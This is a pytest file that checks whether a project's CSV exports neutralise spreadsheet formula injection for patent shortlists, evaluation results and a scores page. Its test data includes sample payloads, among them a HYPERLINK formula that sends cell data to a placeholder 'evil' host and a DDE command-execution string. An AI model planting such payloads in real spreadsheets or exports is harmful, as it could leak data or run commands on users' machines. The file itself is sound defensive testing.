"""CSV formula injection: every CSV the tool writes neutralises cells a spreadsheet would
evaluate (OWASP: a leading = + - @, tab or carriage return), read back with the csv module;
plain numbers stay numbers."""
from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from core.textio import FORMULA_STARTS, csv_cell, csv_row, frame_csv

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1", "\r=1", "=", "-", "@"]
NUMBERS = ["-0.5", "+3", "-1e-05", "12", ".5", "-.25", "1E3"]


def _spreadsheet_would_evaluate(cell: str) -> bool:
    """Independent check: OWASP's first characters, except plain decimal numbers (which a
    spreadsheet reads as numbers, not formulas)."""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)
        return "_" in cell or cell.strip() != cell or cell.lower().lstrip("+-") in ("inf", "nan", "infinity")
    except ValueError:
        return True


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_cells_are_neutralised_and_numbers_kept():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    for h in HOSTILE:
        assert csv_cell(h) == "'" + h
        assert not _spreadsheet_would_evaluate(csv_cell(h))
    for n in NUMBERS:
        assert csv_cell(n) == n and float(csv_cell(n)) == float(n)
    for v in (-0.5, 3, None, "plain", "a=b", "", "1-2"):
        assert csv_cell(v) == v
    assert csv_row(["=x", -1.5, "-1.5"]) == ["'=x", -1.5, "-1.5"]


def test_frame_csv_strings_headers_and_index_numbers_untouched():
    df = pd.DataFrame({"title": HOSTILE, "=score": [-0.5] * len(HOSTILE)}, index=[f"@{i}" for i in range(len(HOSTILE))])
    text = frame_csv(df)
    assert "\r=1" in text and "\"\x27\r=1\"" in text  # the bare CR is quoted
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["", "title", "'=score"]
    for row in rows[1:]:
        assert row[0].startswith("'@") and row[1].startswith("'") and float(row[2]) == -0.5
    assert not any(_spreadsheet_would_evaluate(c) for c in _cells(text))
    assert df["title"].tolist() == HOSTILE  # the caller's frame is not changed


def test_shortlist_csv(tmp_path):
    from core.examiner.shortlist import Hit, Shortlist, ShortlistItem

    items = tuple(ShortlistItem(f"f{i}", patent=h, title=h, priority_date="2001-01-01", note=h,
                                hits=(Hit(h, 1, -0.5),)) for i, h in enumerate(HOSTILE))
    text = Shortlist("demo", items).to_csv()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE)
    for row, h in zip(rows, HOSTILE):
        assert row["title"] == row["note"] == row["patent"] == row["encoder"] == "'" + h
        assert float(row["score"]) == -0.5 and row["rank"] == "1"
    assert not any(_spreadsheet_would_evaluate(c) for c in _cells(text))


def test_results_and_per_query_csv(tmp_path):
    from core.evaluation.evaluator import EvalResult, _write_outputs

    table = pd.DataFrame({"encoder": ["=enc"], "run": ["image"], "axis": ["visual"], "metric": ["map"], "value": [-0.5]})
    per_query = pd.DataFrame({"encoder": ["=enc"], "run": ["image"], "axis": ["visual"], "metric": ["map"],
                              "qid": ["@q1"], "value": [0.25]})
    _write_outputs(tmp_path, None, EvalResult(table=table, per_query=per_query, protocol="upair"), qrels={})
    for name in ("results.csv", "per_query.csv"):
        rows = list(csv.DictReader(io.StringIO((tmp_path / name).read_text())))
        assert rows[0]["encoder"] == "'=enc" and float(rows[0]["value"]) in (-0.5, 0.25)
        assert not any(_spreadsheet_would_evaluate(c) for c in _cells((tmp_path / name).read_text()))
    assert list(csv.DictReader(io.StringIO((tmp_path / "per_query.csv").read_text())))[0]["qid"] == "'@q1"


def test_scores_page_csv():
    from pages.scores_widgets import results_csv

    table = pd.DataFrame({"encoder": ["hog"], "run": ["image"], "axis": ["visual"], "metric": ["map"], "value": [-0.5]})
    text = results_csv(table, None, corpus="=corpus", protocol="upair", weight=0.5, test="t", n_by_axis={"visual": 3}).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["corpus"] == "'=corpus" and float(rows[0]["value"]) == -0.5
    assert not any(_spreadsheet_would_evaluate(c) for c in _cells(text))


#: CSV writers that are not exports: open_clip_train's own tab-separated input (image path,
#: caption) under cache/adapt/runs — changing a caption would change what is trained on.
NOT_EXPORTS = {"core/adapt/data.py"}


@pytest.mark.parametrize("folder", ["core", "dashboard", "pages"])
def test_every_csv_writer_goes_through_the_helper(folder):
    """A guard: any module that writes CSV (csv.writer / DictWriter / .to_csv) imports the
    textio helpers and passes its rows through them."""
    offenders = []
    for path in sorted((ROOT / folder).rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if rel in NOT_EXPORTS or rel == "core/textio.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)]
        writes_csv = [n for n in calls if n.func.attr in ("writer", "DictWriter") and isinstance(n.func.value, ast.Name)
                      and n.func.value.id == "csv"] + [n for n in calls if n.func.attr == "to_csv"
                                                         and not (isinstance(n.func.value, ast.Name)
                                                                  and n.func.value.id in ("self", "sl"))]
        if writes_csv:
            src = path.read_text(encoding="utf-8")
            if not any(h in src for h in ("csv_row(", "frame_csv(", "safe_frame(")):
                offenders.append(f"{rel}:{writes_csv[0].lineno}")
    assert not offenders, f"CSV written without core.textio's csv_row / frame_csv: {offenders}"
